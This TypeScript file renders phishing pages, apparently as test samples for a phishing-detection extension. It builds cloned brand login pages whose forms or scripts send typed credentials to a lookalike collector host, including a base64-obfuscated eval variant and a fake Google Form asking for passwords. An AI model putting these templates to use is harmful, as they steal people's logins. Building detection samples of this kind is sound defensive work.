import { escapeMarkup } from '../../lib/escape-markup.ts';
import { brandStyle } from './brand-styles.ts';

export interface PageHtmlSpec {
  brand: string;
  url: string;
  heading: string;
  /** Where the kit sends what is typed (a lookalike host). */
  collector: string;
  /** How the kit exfiltrates: a plain form post, a fetch script, or an obfuscated script. */
  script: 'none' | 'fetch' | 'obfuscated';
  /** Google Forms asking for a password (type 4 events). */
  googleForm?: boolean;
}

function exfilScript(spec: PageHtmlSpec): string {
  const target = `https://${spec.collector}/gate.php`;
  if (spec.script === 'fetch')
    return `<script>
  document.getElementById('login').addEventListener('submit', function (e) {
    e.preventDefault();
    var data = new FormData(this);
    data.append('ua', navigator.userAgent);
    fetch('${target}', { method: 'POST', body: data, mode: 'no-cors' }).finally(function () {
      window.location.href = 'https://www.${spec.brand.toLowerCase().replace(/[^a-z0-9]/g, '')}.com/';
    });
  });
</script>`;
  if (spec.script === 'obfuscated') {
    const encoded = Buffer.from(
      `fetch('${target}',{method:'POST',body:new FormData(document.forms[0])})`,
    ).toString('base64');
    return `<script>var _0x1f=['${encoded}'];(function(){var f=document.forms[0];f.onsubmit=function(e){e.preventDefault();eval(atob(_0x1f[0]));return false;};})();</script>`;
  }
  return '';
}

/** A Google Form that asks for a password: the pattern of type 4 events. */
function googleFormPage(spec: PageHtmlSpec): string {
  return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>${escapeMarkup(spec.heading)}</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="background:#f0ebf8;font-family:Roboto,Arial,sans-serif">
<div class="freebirdFormviewerViewFormCard" style="max-width:640px;margin:24px auto;background:#fff;border-top:10px solid #673ab7;border-radius:8px;padding:24px">
<div role="heading" aria-level="1" style="font-size:28px">${escapeMarkup(spec.brand)} account verification</div>
<div style="margin:12px 0">Your mailbox has reached its limit. Confirm your account details below to keep receiving email.</div>
<form action="${escapeMarkup(spec.url.replace('viewform', 'formResponse'))}" method="POST" id="mG61Hd">
<div>Email address *</div><input type="email" name="entry.1045781291" required>
<div>Password *</div><input type="text" name="entry.2005620554" required>
<div>Confirm password *</div><input type="text" name="entry.1065046570" required>
<input type="submit" value="Submit">
</form>
<div style="font-size:12px;color:#70757a">Never submit passwords through Google Forms.</div>
</div></body></html>
`;
}

/** The page HTML the extension captured: a copied login page with the kit's form and, often, its script. */
export function renderPageHtml(spec: PageHtmlSpec): string {
  if (spec.googleForm) return googleFormPage(spec);
  const s = brandStyle(spec.brand);
  const action = spec.script === 'none' ? `https://${spec.collector}/next.php` : '#';
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${escapeMarkup(spec.heading)} | ${escapeMarkup(spec.brand)}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex, nofollow">
<link rel="icon" href="data:,">
<style>
  body { margin: 0; background: ${s.background}; color: ${s.text}; font-family: "Segoe UI", Helvetica, Arial, sans-serif; }
  .card { width: 440px; margin: 120px auto; background: #fff; padding: 44px; box-shadow: 0 2px 6px rgba(0,0,0,.2); }
  .logo { color: ${s.primary}; font-size: 30px; font-weight: 700; }
  input { display: block; width: 100%; margin: 12px 0; padding: 10px; border: 1px solid #8a8886; }
  button { float: right; background: ${s.primary}; color: #fff; border: 0; padding: 10px 32px; }
</style>
</head>
<body>
<div class="card">
  <div class="logo">${escapeMarkup(spec.brand)}</div>
  <h1>${escapeMarkup(spec.heading)}</h1>
  <form id="login" method="post" action="${escapeMarkup(action)}" autocomplete="off">
    <input type="email" name="login" placeholder="${escapeMarkup(s.field)}" required>
    <input type="password" name="passwd" placeholder="Password" required>
    <input type="hidden" name="ref" value="${escapeMarkup(new URL(spec.url).hostname)}">
    <a href="#">Forgot password?</a>
    <button type="submit">${escapeMarkup(s.button)}</button>
  </form>
</div>
${exfilScript(spec)}
</body>
</html>
`;
}
